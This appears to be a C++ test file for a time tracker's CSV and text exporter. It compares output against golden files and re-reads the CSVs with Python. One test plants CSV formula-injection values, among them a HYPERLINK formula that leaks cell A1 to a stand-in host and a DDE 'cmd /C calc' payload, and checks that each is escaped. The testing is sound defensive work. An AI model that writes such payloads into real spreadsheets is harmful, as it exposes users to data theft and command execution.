// Whole documents of the fixture store against reviewed golden files, byte for byte, for the default,
// all and no fields, a date filter and billed timers left out; the lines the files must hold are
// checked by name as well, and every golden CSV is read back by Python's csv module.
#include "export/exporter.h"

#include "export_fixture.h"

#include "support/temp_folder.h"

#include <nlohmann/json.hpp>

#include <cstdio>

using exports::Exporter;
using exports::ExportFields;
using testsupport::allFields;
using testsupport::allTimers;
using testsupport::defaultFields;
using testsupport::january;
namespace fs = std::filesystem;

namespace {

bool contains(const std::string& document, const std::string& piece)
{
    return document.find(piece) != std::string::npos;
}

std::size_t occurrences(const std::string& document, const std::string& piece)
{
    std::size_t count = 0;
    for (auto at = document.find(piece); at != std::string::npos; at = document.find(piece, at + piece.size()))
        ++count;
    return count;
}

class GoldenDocumentsTest : public testsupport::ExportFixture {
protected:
    std::vector<model::Project*> projects_ = buildGoldenStore();

    model::Filter januarySixthOnwards() const
    {
        model::Filter filter = allTimers();
        filter.fromDate = january(6, 0);
        filter.toDate = january(31, 23, 59) + std::chrono::seconds(59);
        return filter;
    }
    static model::Filter billedLeftOut()
    {
        model::Filter filter = allTimers();
        filter.includeBilledTimers = false;
        return filter;
    }
};

TEST_F(GoldenDocumentsTest, TextDocumentsMatchTheirGoldenFiles)
{
    const std::string defaults = Exporter::textDocument(projects_, allTimers(), defaultFields());
    expectGolden("text_default.txt", defaults);
    expectGolden("text_all_fields.txt", Exporter::textDocument(projects_, allTimers(), allFields()));
    expectGolden("text_no_fields.txt", Exporter::textDocument(projects_, allTimers(), {}));
    expectGolden("text_from_january_6.txt", Exporter::textDocument(projects_, januarySixthOnwards(), defaultFields()));
    expectGolden("text_without_billed.txt", Exporter::textDocument(projects_, billedLeftOut(), defaultFields()));

    const std::string websiteRule(39, '-');
    EXPECT_TRUE(contains(defaults, websiteRule + "\n Website | ACME | Hourly Rate: $100.00 \n" + websiteRule + "\n"));
    EXPECT_TRUE(contains(defaults, "Duration: 03h 00m\n"));
    EXPECT_TRUE(contains(defaults, "Cost: $340.00\n"));
    // "Café ☕" is six user-perceived characters although its e carries a separate accent.
    EXPECT_TRUE(contains(defaults, "--------\n Cafe\u0301 \u2615 \n--------\n"));
    EXPECT_TRUE(contains(defaults, "- Jan 7, 2024, 01h 30m\n  <b>bold</b> & %cost_sum%\n  Cost: \u20AC0.00\n"));
    EXPECT_FALSE(contains(defaults, "Billed"));
}

TEST_F(GoldenDocumentsTest, TheBilledLineAppearsOnlyWithItsFieldAndOnlyForTheBilledTimer)
{
    ExportFields fields = defaultFields();
    fields.push_back(exports::ExportField::timerBilled);
    const std::string document = Exporter::textDocument(projects_, allTimers(), fields);
    EXPECT_EQ(occurrences(document, "  Billed: \u2714\uFE0E\n"), 1u);
    EXPECT_TRUE(contains(document, "  Review; round 2 \"final\"\n  Cost: $175.00\n  Billed: \u2714\uFE0E\n"));
}

TEST_F(GoldenDocumentsTest, CsvDocumentsMatchTheirGoldenFiles)
{
    const std::string defaults = Exporter::csvDocument(projects_, allTimers(), defaultFields());
    expectGolden("csv_default.csv", defaults);
    expectGolden("csv_all_fields.csv", Exporter::csvDocument(projects_, allTimers(), allFields()));
    const std::string none = Exporter::csvDocument(projects_, allTimers(), {});
    expectGolden("csv_no_fields.csv", none);
    const std::string filtered = Exporter::csvDocument(projects_, januarySixthOnwards(), defaultFields());
    expectGolden("csv_from_january_6.csv", filtered);
    expectGolden("csv_without_billed.csv", Exporter::csvDocument(projects_, billedLeftOut(), defaultFields()));

    EXPECT_EQ(defaults.substr(0, defaults.find('\n')), "Name;Start;End;Duration;Hourly Rate;Costs;Notes");
    EXPECT_TRUE(contains(defaults, "\nWebsite (ACME);;;03:00;$100.00;$340.00;Redesign\n"));
    EXPECT_TRUE(contains(defaults, "\nCafe\u0301 \u2615;;;01:30;\u20AC0.00;\u20AC0.00;\n"));
    EXPECT_TRUE(contains(defaults, ";\"Review; round 2 \"\"final\"\"\"\n"));
    // The duration covers the listed timers, the costs all of the project's timers.
    EXPECT_TRUE(contains(filtered, "\nWebsite (ACME);;;01:45;$100.00;$340.00;Redesign\n"));
    EXPECT_EQ(none.substr(0, none.find('\n')), "Name;Date");
    EXPECT_TRUE(contains(none, "\nWebsite;\n"));
}

// Python's csv module as a spreadsheet would read the file: the rows and their cells, as JSON.
nlohmann::json readBackWithPython(const std::string& path)
{
    const std::string command = "python3 -c 'import csv, json, sys\n"
                                "with open(sys.argv[1], newline=\"\", encoding=\"utf-8\") as f:\n"
                                "    print(json.dumps(list(csv.reader(f, delimiter=\";\"))))' '"
                                + path + "'";
    std::FILE* pipe = ::popen(command.c_str(), "r");
    if (!pipe)
        return nullptr;
    std::string output;
    char buffer[4096];
    while (const std::size_t count = std::fread(buffer, 1, sizeof buffer, pipe))
        output.append(buffer, count);
    if (::pclose(pipe) != 0)
        return nullptr;
    return nlohmann::json::parse(output, nullptr, false);
}

TEST_F(GoldenDocumentsTest, EveryGoldenCsvReadsBackWithItsCellsAndNotesIntact)
{
    // The notes of the project and timer rows in document order, as stored (absent reads as "").
    const std::vector<std::string> allNotes = {
        "Redesign", "Kickoff", "", "Review; round 2 \"final\"", "", "<b>bold</b> & %cost_sum%", ""};
    const std::vector<std::pair<std::string, std::vector<std::string>>> defaultFieldFiles = {
        {"csv_default.csv", allNotes},
        {"csv_from_january_6.csv", {"Redesign", "", "Review; round 2 \"final\"", "", "<b>bold</b> & %cost_sum%", ""}},
        {"csv_without_billed.csv", {"Redesign", "Kickoff", "", "", "<b>bold</b> & %cost_sum%", ""}},
    };
    for (const auto& [name, notes] : defaultFieldFiles) {
        SCOPED_TRACE(name);
        const nlohmann::json rows = readBackWithPython(goldenPath(name));
        ASSERT_TRUE(rows.is_array()) << "python3 could not read " << name;
        std::vector<std::string> readNotes;
        for (std::size_t index = 1; index < rows.size(); ++index) {
            if (rows[index].empty())
                continue;
            ASSERT_EQ(rows[index].size(), 7u) << "row " << index;
            readNotes.push_back(rows[index][6].get<std::string>());
        }
        EXPECT_EQ(readNotes, notes);
    }
    for (const std::string name : {"csv_all_fields.csv", "csv_no_fields.csv"}) {
        SCOPED_TRACE(name);
        const nlohmann::json rows = readBackWithPython(goldenPath(name));
        ASSERT_TRUE(rows.is_array());
        // Header, three projects with their empty lines and four timers, no row split by a cell.
        EXPECT_EQ(rows.size(), 1u + 3 * 2 + 4);
    }
    const nlohmann::json all = readBackWithPython(goldenPath("csv_all_fields.csv"));
    ASSERT_TRUE(all.is_array());
    EXPECT_EQ(all[4].back(), "Review; round 2 \"final\"");
}

TEST_F(GoldenDocumentsTest, NamesAndNotesThatLookLikeFormulasReadBackAsTextWithTheirQuote)
{
    model::Project* hostile = project("=HYPERLINK(\"http://example.invalid/?\"&A1;\"open\")");
    auto* client = model::initInContext<model::Client>(*context_);
    client->setName("@SUM(1)");
    client->setCurrency(std::string("CHF"));
    hostile->setClient(client);
    hostile->setNotes("-2+3");
    periodTimer(hostile, january(5, 9), january(5, 10), "+1");
    periodTimer(hostile, january(5, 11), january(5, 12), "\tcmd|' /C calc'!A0");
    periodTimer(hostile, january(5, 13), january(5, 14), "\rline");
    periodTimer(hostile, january(5, 15), january(5, 16), "a = b");
    model::Timer* refund = timer(hostile, model::TimerType::expense, january(5, 17), "- refund");
    refund->setFixedCost(foundation::Decimal(-50));
    model::Project* unnamed = project("");
    unnamed->setClient(client);

    testsupport::TempFolder folder("horavine-csv");
    const fs::path file = folder.path() / "hostile.csv";
    std::ofstream(file, std::ios::binary) << Exporter::csvDocument({hostile, unnamed}, allTimers(), defaultFields());
    const nlohmann::json rows = readBackWithPython(file.string());
    ASSERT_TRUE(rows.is_array() && rows.size() == 10u) << rows.dump();
    // Header, the project row, five timer rows, an empty line, the unnamed project's row, an empty line.
    EXPECT_EQ(rows[1][0], "'=HYPERLINK(\"http://example.invalid/?\"&A1;\"open\") (@SUM(1))");
    EXPECT_EQ(rows[1][6], "'-2+3");
    std::vector<std::string> notes;
    for (std::size_t index = 2; index <= 6; ++index)
        notes.push_back(rows[index][6].get<std::string>());
    EXPECT_EQ(notes, (std::vector<std::string>{"'+1", "'\tcmd|' /C calc'!A0", "'\rline", "a = b", "'- refund"}));
    // What the exporter formats itself keeps its sign; a name that starts harmlessly stays as it is.
    EXPECT_EQ(rows[6][5], "-CHF\u00A050.00");
    EXPECT_EQ(rows[8][0], " (@SUM(1))");
}

TEST_F(GoldenDocumentsTest, ARunningTimerEndsAtTheCurrentMinute)
{
    model::Project* live = project("Live");
    model::Timer* running = periodTimer(live, january(10, 11), january(10, 11), "");
    running->setEnd(std::nullopt);
    clock_->set(january(10, 12) + std::chrono::seconds(42));

    const std::string text = Exporter::textDocument({live}, allTimers(), defaultFields());
    const std::string csv = Exporter::csvDocument({live}, allTimers(), defaultFields());
    expectGolden("text_running.txt", text);
    expectGolden("csv_running.csv", csv);
    EXPECT_TRUE(contains(csv, "\n;Jan 10, 2024, 11:00\u202FAM;Jan 10, 2024, 12:00\u202FPM;01:00;;$0.00;\n"));
    EXPECT_TRUE(contains(text, "- 1/10/24, 11:00\u202FAM\u2009\u2013\u200912:00\u202FPM, 01h 00m\n"));
    // Within the same minute the document does not change.
    clock_->set(january(10, 12) + std::chrono::seconds(59));
    EXPECT_EQ(Exporter::textDocument({live}, allTimers(), defaultFields()), text);
}

} // namespace
